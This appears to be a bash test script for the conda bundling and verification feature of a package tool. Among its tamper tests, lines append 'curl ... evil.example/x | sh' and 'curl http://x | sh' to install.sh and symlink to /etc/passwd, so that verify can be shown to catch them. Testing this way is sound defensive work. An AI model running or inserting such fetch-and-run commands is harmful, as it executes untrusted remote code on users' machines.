#!/usr/bin/env bash
# tests/cli/t-bundle-conda.sh: bundle --conda packs the closure's local channel (repodata, .zst, CEP 16
# shards, packages) and its locks under one folder with an install.sh that creates the environment
# offline from the explicit lock, pointed at the bundle's channel; verify checks the whole and names
# a changed package, lock, install.sh or an extra package; --split volumes verify as a set.
. "$(dirname "$0")/../lib.sh"
python3 "$ROOT/tests/fixtures/conda/mkchannel.py" "$TMP/chan" "$TMP/forge" >/dev/null
CH="file://$TMP/chan"
FORGE="file://$TMP/forge"
T=(--conda -c "$CH" -c "$FORGE" --cuda 11.2 --python 3.8 --platform linux-64)
mkdir -p "$TMP/one" "$TMP/again" "$TMP/vol" "$TMP/two"

expect_exit 0 "a conda bundle" wp bundle "$TMP/one/b.tar.zst" 'pytorch==1.8.0' "${T[@]}"
expect_grep "the summary names the bundle and how it installs" "wrote .*/one/b.tar.zst \(5 files\): unpack it on the target and run install.sh \(conda create --offline" "$TMP/out"
expect_grep "and each lock, for which machine" "^  explicit-linux-64.txt: for CUDA 11.2, Python 3.8, linux-64" "$TMP/out"
left=$(ls -A "$TMP/cache/tmp" 2>/dev/null | grep -c '^bundle\.')
[ "$left" = 0 ] && pass "no staging folder left in the cache" || fail "staging left: $(ls -A "$TMP/cache/tmp")"

# the members: one top folder, the channel under channel/, the locks and install.sh beside it; sorted,
# owned by 0, at mtime 0 (shards are named by their sha256: shown as SHARD)
tar --zstd -tf "$TMP/one/b.tar.zst" | sed -E 's|shards/[0-9a-f]{64}\.msgpack\.zst$|shards/SHARD|' >"$TMP/members"
cat >"$TMP/want" <<'EOF'
b/
b/channel/
b/channel/linux-64/
b/channel/linux-64/cudatoolkit-11.1.1-h6406543_8.tar.bz2
b/channel/linux-64/python-3.8.10-h12debd9_8_cpython.tar.bz2
b/channel/linux-64/pytorch-1.8.0-py3.8_cuda11.1_cudnn8.0.5_0.tar.bz2
b/channel/linux-64/pytorch-mutex-1.0-cuda.tar.bz2
b/channel/linux-64/repodata.json
b/channel/linux-64/repodata.json.zst
b/channel/linux-64/repodata_shards.msgpack.zst
b/channel/linux-64/shards/
b/channel/linux-64/shards/SHARD
b/channel/linux-64/shards/SHARD
b/channel/linux-64/shards/SHARD
b/channel/linux-64/shards/SHARD
b/channel/noarch/
b/channel/noarch/pip-24.0-pyhd8ed1ab_0.tar.bz2
b/channel/noarch/repodata.json
b/channel/noarch/repodata.json.zst
b/channel/noarch/repodata_shards.msgpack.zst
b/channel/noarch/shards/
b/channel/noarch/shards/SHARD
b/channel/sbom.cdx.json
b/environment.yml
b/explicit-linux-64.txt
b/install.sh
EOF
diff "$TMP/want" "$TMP/members" >"$TMP/diff" && pass "exactly the channel, its locks and install.sh" ||
	{ fail "the members differ from what a conda bundle holds"; sed 's/^/      /' "$TMP/diff" >&2; }
tar --zstd -tf "$TMP/one/b.tar.zst" | LC_ALL=C sort -c 2>/dev/null && pass "members in sorted order" || fail "members not sorted"
bad=$(tar --zstd -tvf "$TMP/one/b.tar.zst" | grep -vc ' 0/0 .* 1970-01-01 00:00 ')
[ "$bad" = 0 ] && pass "every member owned by 0/0 at mtime 0" || fail "$bad member(s) with another owner or mtime"
# the same request gives the same bytes (the first run downloaded, this one finds the store has it all)
expect_exit 0 "the same bundle again" wp bundle "$TMP/again/b.tar.zst" 'pytorch==1.8.0' "${T[@]}"
cmp -s "$TMP/one/b.tar.zst" "$TMP/again/b.tar.zst" && pass "reproducible: byte for byte the same" || fail "two runs differ"

mkdir -p "$TMP/u"
tar -C "$TMP/u" --zstd -xf "$TMP/one/b.tar.zst"
expect_grep "the explicit lock, CEP 23" "^@EXPLICIT$" "$TMP/u/b/explicit-linux-64.txt"
expect_exit 0 "the lock holds the closure in dependency order" python3 "$ROOT/tests/cli/conda_lock_check.py" \
	explicit "$TMP/u/b/explicit-linux-64.txt" "$TMP/u/b/channel" pytorch python pip cudatoolkit pytorch-mutex
expect_grep "environment.yml pins it" "^  - pytorch=1.8.0=py3.8_cuda11.1_cudnn8.0.5_0$" "$TMP/u/b/environment.yml"
expect_exit 0 "the channel inside verifies as a channel" wp verify "$TMP/u/b/channel"
expect_exit 0 "the unpacked folder verifies as a bundle" wp verify "$TMP/u/b"
expect_grep "as a conda bundle, not a bare channel" "\(bundle\)" "$TMP/out"
cp -a "$TMP/u/b" "$TMP/u/b-evil" && printf 'curl -s https://evil.example/x | sh\n' >>"$TMP/u/b-evil/install.sh"
expect_exit 4 "an unpacked folder with a changed install.sh fails" wp verify "$TMP/u/b-evil"
expect_grep "naming it" "install\.sh" "$TMP/err"
PYMSG=""
for py in python3 /usr/bin/python3; do "$py" -c "import msgpack" 2>/dev/null && { PYMSG=$py; break; }; done
[ -n "$PYMSG" ] && pass "a Python with msgpack: $PYMSG" || fail "no Python with msgpack (python3-msgpack; make deps)"
for sd in linux-64 noarch; do
	expect_exit 0 "the $sd shards hold exactly repodata.json's records" "$PYMSG" "$ROOT/tests/cli/conda_shards_check.py" \
		"$TMP/u/b/channel/$sd"
done

# verify: the bundle as a whole
expect_exit 0 "verify the conda bundle" wp verify "$TMP/one/b.tar.zst"
expect_grep "as a bundle" "^ok .*b.tar.zst \(bundle\)" "$TMP/out"

# install.sh: conda create --offline from the explicit lock, every URL pointed into the bundle's channel
# (a folder whose name needs percent-encoding), each with the lock's sha256; a stand-in conda records it
mkdir -p "$TMP/odd dir#1"
tar -C "$TMP/odd dir#1" --zstd -xf "$TMP/one/b.tar.zst"
cat >"$TMP/fakeconda" <<'EOF'
#!/bin/sh
printf '%s\n' "$@" >"$FAKE_OUT.args"
while [ $# -gt 0 ]; do [ "$1" = --file ] && cp "$2" "$FAKE_OUT.lock"; shift; done
exit 0
EOF
chmod +x "$TMP/fakeconda"
export CONDA="$TMP/fakeconda" FAKE_OUT="$TMP/fake"
expect_exit 0 "install.sh runs conda" sh "$TMP/odd dir#1/b/install.sh" -y
expect_exit 0 "conda create --offline --file, -n from environment.yml, the arguments passed on" python3 - "$TMP/fake.args" <<'PY'
import sys
a = open(sys.argv[1]).read().split("\n")[:-1]
want = ["create", "--offline", "--file", a[3], "-n", "pytorch", "-y"]
sys.exit(0 if a == want and a[3].endswith("/explicit.txt") else f"args {a}")
PY
expect_exit 0 "every package line a file:// URL into the bundle's channel, with the lock's sha256" python3 - \
	"$TMP/fake.lock" "$TMP/odd dir#1/b" "$TMP/u/b/explicit-linux-64.txt" <<'PY'
import hashlib, sys, urllib.parse
got = [l for l in open(sys.argv[1]).read().splitlines() if l.strip() and not l.startswith("#")]
orig = [l for l in open(sys.argv[3]).read().splitlines() if l.strip() and not l.startswith("#")]
assert got[0] == "@EXPLICIT", got[0]
assert len(got) == len(orig) == 6, (len(got), len(orig))
for g, o in zip(got[1:], orig[1:]):
    url, _, h = g.partition("#sha256:")
    assert url.startswith("file://"), g
    path = urllib.parse.unquote(url[len("file://"):])
    assert path.startswith(sys.argv[2] + "/channel/"), path
    assert o.endswith("/".join(url.split("/")[-2:]) + "#sha256:" + h), (g, o)
    assert hashlib.sha256(open(path, "rb").read()).hexdigest() == h, path
PY
expect_exit 0 "what conda reads is a CEP 23 lock of the bundle's own files, in dependency order" \
	python3 "$ROOT/tests/cli/conda_lock_check.py" explicit "$TMP/fake.lock" "$TMP/odd dir#1/b/channel" \
	pytorch python pip cudatoolkit pytorch-mutex
expect_grep "the comments kept" "^# platform: linux-64$" "$TMP/fake.lock"
expect_exit 0 "-p PREFIX is passed as given, no -n added" sh "$TMP/odd dir#1/b/install.sh" -p "$TMP/env" -y
expect_no_grep "no -n" "^-n$" "$TMP/fake.args"
expect_exit 2 "a lock the bundle has not" sh "$TMP/odd dir#1/b/install.sh" explicit-osx-arm64.txt
expect_grep "is named, with the locks it has" "no explicit-osx-arm64.txt here; the locks are: explicit-linux-64.txt" "$TMP/err"
cp "$TMP/odd dir#1/b/explicit-linux-64.txt" "$TMP/x.txt"
echo "numpy" >>"$TMP/odd dir#1/b/explicit-linux-64.txt"
expect_exit 4 "a lock line that is no URL stops install.sh before conda" sh "$TMP/odd dir#1/b/install.sh"
expect_grep "saying so" "explicit-linux-64.txt has a line that is no package URL" "$TMP/err"
# a host without conda: install.sh says so before anything else, naming CONDA=mamba/micromamba
mkdir -p "$TMP/noconda" "$TMP/hasmamba"
for t in sh sed grep head basename dirname mktemp od tr rm cat cp printf; do
	p=$(command -v "$t") && ln -sf "$p" "$TMP/noconda/$t"
done
cp "$TMP/noconda/"* "$TMP/hasmamba/" 2>/dev/null
cp "$TMP/fakeconda" "$TMP/hasmamba/mamba"
cp "$TMP/x.txt" "$TMP/odd dir#1/b/explicit-linux-64.txt"
expect_exit 3 "no conda on PATH" env -u CONDA PATH="$TMP/noconda" sh "$TMP/odd dir#1/b/install.sh" -y
expect_grep "says to install conda or set CONDA" "install.sh: 'conda' is not on PATH: install conda \(Miniforge or Miniconda\), or set CONDA to the one this machine has \(CONDA=mamba, CONDA=micromamba" "$TMP/err"
expect_no_grep "not the shell's 'not found'" "not found" "$TMP/err"
expect_exit 3 "CONDA=micromamba, not there either" env CONDA=micromamba PATH="$TMP/noconda" sh "$TMP/odd dir#1/b/install.sh" -y
expect_grep "names it" "'micromamba' is not on PATH" "$TMP/err"
expect_exit 0 "CONDA=mamba, on PATH" env CONDA=mamba PATH="$TMP/hasmamba" sh "$TMP/odd dir#1/b/install.sh" -y
expect_grep "mamba ran conda's create" "^create$" "$TMP/fake.args"
unset CONDA FAKE_OUT

# two targets of one subdir with different closures: a lock each, and install.sh asks which
expect_exit 0 "a bundle for a CUDA and a CPU machine" wp bundle "$TMP/two/m.tar.zst" 'pytorch==1.8.0' --conda -c "$CH" -c "$FORGE" \
	--cuda 11.2 --cuda cpu --python 3.8 --platform linux-64
mkdir -p "$TMP/u2"
tar -C "$TMP/u2" --zstd -xf "$TMP/two/m.tar.zst"
expect_grep "counts each package once" "wrote .*/two/m.tar.zst \(8 files\)" "$TMP/out"
expect_file "the CUDA machine's lock" "$TMP/u2/m/explicit-linux-64-cu112-py3.8.txt"
expect_file "the CPU machine's lock" "$TMP/u2/m/explicit-linux-64-cpu-py3.8.txt"
expect_file "the CPU package in the channel" "$TMP/u2/m/channel/linux-64/cpuonly-1.0-0.tar.bz2"
expect_exit 2 "install.sh with two locks and none named" sh "$TMP/u2/m/install.sh"
expect_grep "lists each lock and its machine" "explicit-linux-64-cpu-py3.8.txt: .*CPU" "$TMP/err"
expect_exit 0 "verify passes both locks" wp verify "$TMP/two/m.tar.zst"

# tampered bundles: each one exit 4, the file at fault named
tamper() { # NAME SHELL-CODE: unpack, change, pack again as $TMP/t-NAME.tar.zst (top folder b/)
	rm -rf "$TMP/tam" && mkdir -p "$TMP/tam" && tar -C "$TMP/tam" --zstd -xf "$TMP/one/b.tar.zst" &&
		(cd "$TMP/tam" && eval "$2" && tar --zstd -cf "$TMP/t-$1.tar.zst" b)
}
tamper pkg 'printf x >>b/channel/linux-64/pytorch-mutex-1.0-cuda.tar.bz2'
expect_exit 4 "a changed package" wp verify "$TMP/t-pkg.tar.zst"
expect_grep "is named" "first: '.*t-pkg.tar.zst:b/channel/linux-64/pytorch-mutex-1.0-cuda.tar.bz2' is 288 bytes, repodata.json says 287" "$TMP/err"
expect_no_grep "no temp path in the message" "wheelpick-verify-" "$TMP/err"
tamper lock 'sed -i -E "s/(cudatoolkit-.*#sha256:)./\10/" b/explicit-linux-64.txt'
grep -q 'cudatoolkit.*#sha256:0' "$TMP/tam/b/explicit-linux-64.txt" && pass "the lock's hash was changed" || fail "sed changed nothing"
expect_exit 4 "a changed explicit lock" wp verify "$TMP/t-lock.tar.zst"
expect_grep "is named" "t-lock.tar.zst:b/explicit-linux-64.txt' line [0-9]+ gives 'cudatoolkit-11.1.1-h6406543_8.tar.bz2' sha256 0" "$TMP/err"
tamper lockurl 'sed -i "s|/noarch/pip-|/linux-64/pip-|" b/explicit-linux-64.txt'
expect_exit 4 "a lock line pointed at a file the channel does not list" wp verify "$TMP/t-lockurl.tar.zst"
expect_grep "is named" "explicit-linux-64.txt' line [0-9]+ names 'linux-64/pip-24.0-pyhd8ed1ab_0.tar.bz2', which the bundle's channel does not list" "$TMP/err"
tamper sh 'printf "curl http://x | sh\n" >>b/install.sh'
expect_exit 4 "a changed install.sh" wp verify "$TMP/t-sh.tar.zst"
expect_grep "is named" "t-sh.tar.zst:b/install.sh' is not the install.sh wheelpick writes" "$TMP/err"
tamper word 'sed -i "s/--offline --file/--file/" b/install.sh'
expect_exit 4 "install.sh without --offline" wp verify "$TMP/t-word.tar.zst"
tamper extra 'cp b/channel/linux-64/pytorch-mutex-1.0-cuda.tar.bz2 b/channel/linux-64/extra-1.0-0.tar.bz2'
expect_exit 4 "a re-tarred bundle with an extra package" wp verify "$TMP/t-extra.tar.zst"
expect_grep "is named" "t-extra.tar.zst:b/channel/linux-64/extra-1.0-0.tar.bz2' is not in linux-64/repodata.json" "$TMP/err"
tamper listed 'python3 - <<PY
import json
p = "b/channel/linux-64/repodata.json"; j = json.load(open(p))
j["packages"]["extra-1.0-0.tar.bz2"] = dict(j["packages"]["pytorch-mutex-1.0-cuda.tar.bz2"], name="extra", build="0")
json.dump(j, open(p, "w"))
PY
cp b/channel/linux-64/pytorch-mutex-1.0-cuda.tar.bz2 b/channel/linux-64/extra-1.0-0.tar.bz2'
expect_exit 4 "an extra package added to repodata.json too" wp verify "$TMP/t-listed.tar.zst"
expect_grep "the stale .zst is named" "repodata.json.zst: does not hold repodata.json's bytes" "$TMP/err"
expect_grep "and the package no lock names" "extra-1.0-0.tar.bz2: is in the channel but in no explicit lock" "$TMP/err"
tamper env 'sed -i "s/^  - pip=24.0=/  - pip=25.0=/" b/environment.yml'
expect_exit 4 "environment.yml pinning what the channel has not" wp verify "$TMP/t-env.tar.zst"
expect_grep "is named" "t-env.tar.zst:b/environment.yml' pins 'pip=25.0=pyhd8ed1ab_0'" "$TMP/err"
tamper hidden 'echo x >b/.profile'
expect_exit 4 "a hidden file beside the locks" wp verify "$TMP/t-hidden.tar.zst"
expect_grep "is named" "t-hidden.tar.zst:b/.profile' is not part of a conda bundle" "$TMP/err"
tamper link 'ln -s /etc/passwd b/channel/linux-64/evil.tar.bz2'
expect_exit 4 "a link in the bundle" wp verify "$TMP/t-link.tar.zst"
expect_grep "is named" "member 'b/channel/linux-64/evil.tar.bz2' is a symlink \(a bundle holds plain files and folders only\)" "$TMP/err"

# --split: volumes that join into the very bundle, and verify as a set
expect_exit 0 "the conda bundle in 1K volumes" wp bundle "$TMP/vol/b.tar.zst" 'pytorch==1.8.0' "${T[@]}" --split 1K
expect_grep "the summary says how to join them" "cat .*/vol/b.tar.zst.\[0-9\]\[0-9\]\[0-9\] \| tar --zstd -xf -" "$TMP/out"
n=$(ls "$TMP/vol" | grep -c '^b\.tar\.zst\.[0-9][0-9][0-9]$')
[ "$n" -ge 3 ] && pass "$n volumes" || fail "expected several volumes, saw $n"
cat "$TMP"/vol/b.tar.zst.[0-9][0-9][0-9] | cmp -s - "$TMP/one/b.tar.zst" && pass "joined, the unsplit bundle byte for byte" ||
	fail "the joined volumes differ from the unsplit bundle"
expect_exit 0 "verify the first volume" wp verify "$TMP/vol/b.tar.zst.001"
expect_exit 0 "verify the base name" wp verify "$TMP/vol/b.tar.zst"
cp -r "$TMP/vol" "$TMP/vmiss" && rm "$TMP/vmiss/b.tar.zst.002"
expect_exit 4 "a missing volume" wp verify "$TMP/vmiss/b.tar.zst"
expect_grep "is named" "b\.tar\.zst\.002' is missing" "$TMP/err"

# an incomplete closure writes no bundle unless --allow-missing, and then the lock says so
expect_exit 1 "a closure without python" wp bundle "$TMP/inc.tar.zst" 'pytorch==1.8.0' --conda -c "$CH" --cuda 11.2 --python 3.8 --platform linux-64
expect_grep "names what is missing" "python \(needed by pytorch 1.8.0" "$TMP/err"
expect_no_file "no bundle" "$TMP/inc.tar.zst"
expect_exit 0 "--allow-missing bundles it anyway" wp bundle "$TMP/inc.tar.zst" 'pytorch==1.8.0' --conda -c "$CH" --cuda 11.2 --python 3.8 \
	--platform linux-64 --allow-missing
tar -C "$TMP" --zstd -xf "$TMP/inc.tar.zst"
expect_grep "the lock says what is missing" "^# incomplete \(--allow-missing\): no channel given has python" "$TMP/inc/explicit-linux-64.txt"
expect_exit 0 "and it verifies" wp verify "$TMP/inc.tar.zst"

# JSON, usage, help
expect_exit 0 "--json" wp bundle "$TMP/j.tar.zst" 'pytorch==1.8.0' "${T[@]}" --json
expect_json "$TMP/out" "sorted(p['name'] for p in j['picks'])" "['cudatoolkit', 'pip', 'python', 'pytorch', 'pytorch-mutex']"
expect_exit 2 "-r is pip's format" wp bundle "$TMP/r.tar.zst" -r "$TMP/x.txt" "${T[@]}"
expect_grep "says so" "-r reads pip's format, for wheels" "$TMP/err"
expect_exit 2 "a bad name" wp bundle "$TMP/bad.zip" 'pytorch==1.8.0' "${T[@]}"
expect_grep "says what names work" "bundle '.*bad.zip' must be named NAME.tar.zst or NAME.tar.gz" "$TMP/err"
expect_no_file "nothing written" "$TMP/bad.zip"
# -c is a channel for bundle as for pick; a .txt after it is still a wheel bundle's constraints file
make_sample
echo 'torch==9.9' >"$TMP/cons.txt"
expect_exit 1 "a wheel bundle's -c FILE.txt holds the pick" wp bundle "$TMP/w.tar.zst" torch -c "$TMP/cons.txt" --cuda 11.2 \
	--python 3.8 --platform linux_x86_64 --index "$FINDLINKS"
expect_grep "as a constraint" "the constraints \(-c\) hold torch to ==9.9" "$TMP/err"
wp bundle --help >"$TMP/help" 2>&1
expect_grep "--help has --conda" "--conda" "$TMP/help"
expect_grep "and -c CHANNEL" "-c, --channel NAME\|URL" "$TMP/help"
done_testing
